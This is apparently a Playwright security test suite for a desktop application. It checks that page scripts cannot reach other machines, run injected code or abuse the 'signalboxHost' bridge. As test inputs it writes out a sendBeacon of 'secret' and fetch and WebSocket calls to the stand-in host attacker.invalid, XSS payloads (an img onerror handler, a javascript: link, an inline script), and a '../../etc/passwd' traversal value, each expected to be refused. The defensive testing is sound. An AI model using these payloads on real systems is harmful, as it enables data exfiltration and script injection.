import type { Page } from '@playwright/test';
import type { App } from './support/test.ts';
import { expect, test } from './support/test.ts';
import { expectOk } from './support/work.ts';

/** What a browser says when a page's policy, or the host, forbids something. */
const forbidden =
  /Content Security Policy|content security policy|Failed to load resource|ERR_BLOCKED_BY|ERR_FAILED|violates/;

const elsewhere = 'https://attacker.invalid/';

/** The page is where it was, and the engine answers. */
async function expectUnharmed(app: App, address: string): Promise<void> {
  expect(app.page.url()).toBe(address);
  expectOk(await app.api.listEvents({ afterSeq: 0 }));
}

/** Runs an attack as a script of the page itself would. */
function attack<T>(page: Page, run: (target: string) => Promise<T>): Promise<T> {
  return page.evaluate(run, elsewhere);
}

test.beforeEach(({ app }) => app.forgive(forbidden));

test('R71 a page cannot open a window', async ({ app }) => {
  const { page } = app;
  const address = page.url();
  const opened: Page[] = [];
  page.context().on('page', (other) => opened.push(other));
  await attack(page, async (target) => {
    window.open(target);
  });
  await expect.poll(() => opened.filter((other) => !other.isClosed() && other.url().startsWith(elsewhere))).toEqual([]);
  test.skip(
    app.host === 'browser',
    'a browser opens tabs for pages; only the desktop application has windows of its own',
  );
  await expect.poll(() => opened.filter((other) => !other.isClosed())).toEqual([]);
  await expectUnharmed(app, address);
});

test('R71 a page cannot be led elsewhere in the desktop application', async ({ app }) => {
  test.skip(app.host === 'browser', 'in a browser the person goes where they like');
  const { page } = app;
  const address = page.url();
  const denied = page.waitForEvent('requestfailed');
  await attack(page, async (target) => {
    location.href = target;
  });
  expect((await denied).url()).toBe(elsewhere);
  await expectUnharmed(app, address);
});

test('R71 a page cannot reach another machine', async ({ app }) => {
  const outcomes = await attack(app.page, async (target) => {
    const attempt = async (action: () => Promise<unknown>) => {
      try {
        await action();
        return 'reached';
      } catch {
        return 'refused';
      }
    };
    const loads = (element: HTMLImageElement) =>
      new Promise((resolve, reject) => {
        element.onload = resolve;
        element.onerror = reject;
        element.src = `${target}image.png`;
      });
    const speaks = () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(target.replace('https', 'wss'));
        socket.onopen = resolve;
        socket.onerror = reject;
      });
    return [
      await attempt(() => fetch(target, { mode: 'no-cors' })),
      await attempt(() => loads(new Image())),
      await attempt(speaks),
      navigator.sendBeacon(target, 'secret') ? 'queued' : 'refused',
    ];
  });
  // A beacon is queued, and then blocked: what became of it nobody is told.
  expect(outcomes.slice(0, 3)).toEqual(['refused', 'refused', 'refused']);
  await expectUnharmed(app, app.page.url());
});

test('R71 what is written into the page as a script does not run', async ({ app }) => {
  const { page } = app;
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.wasAttacked = "inline script"';
    document.head.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="nowhere:" onerror="window.wasAttacked = \'handler\'">';
    document.body.append(holder);
    const link = document.createElement('a');
    link.href = 'javascript:window.wasAttacked="link"';
    document.body.append(link);
    link.click();
    link.remove();
    holder.remove();
  });
  // Handlers run after what is under way now.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  expect(await page.evaluate(() => 'wasAttacked' in window)).toBe(false);
});

test('R71 text does not become code', async ({ app }) => {
  const { page } = app;
  // A timer of text is subject to the page's policy even where a debugger may evaluate.
  await page.evaluate(() => {
    (setTimeout as unknown as (code: string) => void)('window.wasAttacked = "timer"');
  });
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  expect(await page.evaluate(() => 'wasAttacked' in window)).toBe(false);
});

test('R71 a page embeds nothing', async ({ app }) => {
  const { page } = app;
  await page.evaluate((target) => {
    const frame = document.createElement('iframe');
    frame.src = target;
    document.body.append(frame);
  }, elsewhere);
  await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith(elsewhere))).toEqual([]);
  const isPowerless = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<p>inside</p>';
    document.body.append(frame);
    return new Promise<boolean>((resolve) => {
      frame.onload = () => resolve(!('signalboxHost' in (frame.contentWindow ?? {})));
      setTimeout(() => resolve(!('signalboxHost' in (frame.contentWindow ?? {}))), 1_000);
    });
  });
  expect(isPowerless).toBe(true);
});

test('R71 a page has nothing of Node or Electron', async ({ app }) => {
  const found = await app.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter((name) => name in window),
  );
  expect(found).toEqual([]);
});

test.describe('the bridge of the desktop application', () => {
  test.beforeEach(({ app }) => {
    test.skip(app.host === 'browser', 'a browser has no bridge');
  });

  test('R71 it offers exactly the contract, and cannot be replaced', async ({ app }) => {
    const seen = await app.page.evaluate(() => {
      try {
        (window as unknown as Record<string, unknown>).signalboxHost = 'replaced';
        (window.signalboxHost as unknown as Record<string, unknown>).call = 'replaced';
      } catch {
        // Refused aloud; without strict mode it is refused silently.
      }
      return [Object.keys(window.signalboxHost).sort(), typeof window.signalboxHost.call];
    });
    expect(seen).toEqual([['call', 'kind', 'platform', 'subscribe', 'unsubscribe'], 'function']);
  });

  for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', '', 'getStatus ', 'signalbox:call']) {
    test(`R71 an entry called ${JSON.stringify(name)} is refused`, async ({ app }) => {
      const answer = await app.page.evaluate((entry) => window.signalboxHost.call(entry, {}), name);
      expect(answer).toMatchObject({ ok: false, error: { type: 'notFound' } });
    });
  }

  test('R71 input that is not what the contract says is refused', async ({ app }) => {
    const answers = await app.page.evaluate(() =>
      Promise.all([
        window.signalboxHost.call('getStatus', { surplus: 1 }),
        window.signalboxHost.call('getRun', { runId: '../../etc/passwd' }),
        window.signalboxHost.call('getStatus', () => 'a function'),
        window.signalboxHost.call('getStatus', 1n),
        window.signalboxHost.subscribe(
          { topic: 'everything' },
          () => {},
          () => {},
        ),
      ]),
    );
    for (const answer of answers) expect(answer).toMatchObject({ ok: false, error: { type: 'invalidInput' } });
  });

  test('R71 a request that is far too large is refused, and the engine does not notice', async ({ app }) => {
    const answer = await app.page.evaluate(() =>
      window.signalboxHost.call('freeze', { reason: 'x'.repeat(9 * 1024 * 1024) }),
    );
    expect(answer).toMatchObject({ ok: false, error: { type: 'invalidInput' } });
    const { events } = expectOk(await app.api.listEvents({ afterSeq: 0 }));
    expect(events.filter(({ kind }) => kind === 'engine.frozen')).toEqual([]);
  });

  test('R71 a flood of calls is bounded, and others are answered meanwhile', async ({ app }) => {
    const flood = app.page.evaluate(async () => {
      const calls = Array.from({ length: 20_000 }, () => window.signalboxHost.call('getStatus', {}));
      const answers = (await Promise.all(calls)) as { ok: boolean; error?: { type: string } }[];
      const refused = answers.filter(({ ok }) => !ok);
      return {
        answered: answers.length - refused.length,
        reasons: [...new Set(refused.map(({ error }) => error?.type))],
      };
    });
    expectOk(await app.api.listEvents({ afterSeq: 0 }));
    const { answered, reasons } = await flood;
    // As many as are worked on at once, less what the interface asks for itself.
    expect(answered).toBeGreaterThan(200);
    expect(reasons).toEqual(['unavailable']);
    expect(await app.page.evaluate(() => window.signalboxHost.call('getStatus', {}))).toMatchObject({ ok: true });
  });

  test('R71 subscriptions are bounded, and end with the page', async ({ app }) => {
    const follow = () =>
      app.page.evaluate(async () => {
        const asked = Array.from({ length: 250 }, () =>
          window.signalboxHost.subscribe(
            { topic: 'events', afterSeq: 0 },
            () => {},
            () => {},
          ),
        );
        const answers = (await Promise.all(asked)) as { ok: boolean }[];
        return answers.filter(({ ok }) => ok).length;
      });
    // The interface has some of its own.
    expect(await follow()).toBeGreaterThan(200);
    expect(await follow()).toBeLessThan(50);
    await app.reloadWindow();
    expect(await follow()).toBeGreaterThan(200);
  });
});
